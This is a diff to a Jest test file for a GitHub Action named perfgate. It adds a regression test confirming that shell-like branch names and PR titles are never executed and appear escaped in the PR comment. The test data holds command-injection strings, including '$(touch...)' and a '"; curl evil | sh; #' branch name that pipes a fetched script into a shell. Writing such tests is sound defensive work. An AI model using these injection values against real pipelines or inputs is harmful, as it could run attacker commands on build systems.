@@ -1,6 +1,7 @@
 import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals'
 import { mkdir, readFile, writeFile } from 'node:fs/promises'
 import path from 'node:path'
+import { existsSync } from 'node:fs'
 import * as core from '../../__fixtures__/core.js'
 import { freePort, REPO } from '../../__fixtures__/config.js'
 import { GitSandbox, git } from '../../__fixtures__/git.js'
@@ -42,11 +43,18 @@ scenarios:
 ${limits}${extra}`
 
 /** main holds `base`; the PR branch changes perfgate.yml to `head` in a commit that also carries a trailer. */
-async function pullRequest(base: string, head: string, labels: string[] = []): Promise<void> {
+async function pullRequest(
+  base: string,
+  head: string,
+  labels: string[] = [],
+  names: { base?: string; head?: string; title?: string } = {}
+): Promise<void> {
+  const baseBranch = names.base ?? 'main'
   await writeFile(path.join(work, 'perfgate.yml'), base)
   git(work, 'add', 'perfgate.yml')
   git(work, 'commit', '-q', '-m', 'perfgate limits')
-  git(work, 'push', '-q', 'origin', 'HEAD:main')
+  git(work, 'push', '-q', 'origin', `HEAD:refs/heads/${baseBranch}`)
+  git(work, 'fetch', '-q', 'origin')
   const mainSha = git(work, 'rev-parse', 'HEAD')
   git(work, 'checkout', '-q', '-b', 'feature')
   await writeFile(path.join(work, 'perfgate.yml'), head)
@@ -54,8 +62,13 @@ async function pullRequest(base: string, head: string, labels: string[] = []): P
   const event = {
     pull_request: {
       number: 7,
-      head: { sha: git(work, 'rev-parse', 'HEAD'), ref: 'feature', repo: { full_name: 'o/r', fork: false } },
-      base: { sha: mainSha, ref: 'main', repo: { full_name: 'o/r' } },
+      title: names.title ?? 'Loosen the gate',
+      head: {
+        sha: git(work, 'rev-parse', 'HEAD'),
+        ref: names.head ?? 'feature',
+        repo: { full_name: 'o/r', fork: false }
+      },
+      base: { sha: mainSha, ref: baseBranch, repo: { full_name: 'o/r' } },
       labels: labels.map(name => ({ name }))
     },
     repository: { default_branch: 'main', full_name: 'o/r' }
@@ -66,7 +79,8 @@ async function pullRequest(base: string, head: string, labels: string[] = []): P
     GITHUB_REPOSITORY: 'o/r',
     GITHUB_EVENT_NAME: 'pull_request',
     GITHUB_EVENT_PATH: path.join(sandbox.root, 'event.json'),
-    GITHUB_BASE_REF: 'main',
+    GITHUB_BASE_REF: baseBranch,
+    GITHUB_HEAD_REF: names.head ?? 'feature',
     GITHUB_API_URL: api.url,
     GITHUB_RUN_ID: '42',
     GITHUB_STEP_SUMMARY: path.join(sandbox.root, 'summary.md')
@@ -142,6 +156,36 @@ describe('the gate of a pull request comes from its base', () => {
     expect(result.gate).toMatchObject({ source: 'pr', changes: [] })
     expect(result.gate.message).toMatch(/has no perfgate\.yml: this pull request adds perfgate/)
   })
+})
+
+describe('shell-looking branch names and titles', () => {
+  it('are never evaluated by a shell: they reach git as arguments and the comment as escaped text', async () => {
+    const port = await freePort()
+    const marker = path.join(sandbox.root, 'pwned')
+    const baseBranch = `base$(touch\${IFS}${marker});echo"x"|sh`
+    const evil = '"; curl evil | sh; #'
+    const base = config(port, '      latency.p99: "< 4s"\n').replace(
+      'service:\n',
+      'service:\n  build: echo built\n'
+    )
+    await pullRequest(base, base.replace('< 4s', '< 5s'), [], {
+      base: baseBranch,
+      head: evil,
+      title: '$(id) `id`'
+    })
+    Object.assign(core.inputs, { mode: 'compare' })
+    await run()
+    expect(existsSync(marker)).toBe(false)
+    const result = await report()
+    expect(result.mode).toBe('compare')
+    expect(result.scenarios[0].verdict).not.toBe('errored')
+    expect(result.gate.message).toContain(baseBranch)
+    const body = api.comments[0]!.body
+    // the branch name appears only as escaped text: no raw `|`, and the $(...) is inert text
+    expect(body).toContain('base$(touch${IFS}')
+    expect(body).not.toContain('"x"|sh')
+    expect(body).toContain('&#124;sh')
+  }, 120_000)
 })
 
 describe('accepting a regression in a pull request', () => {
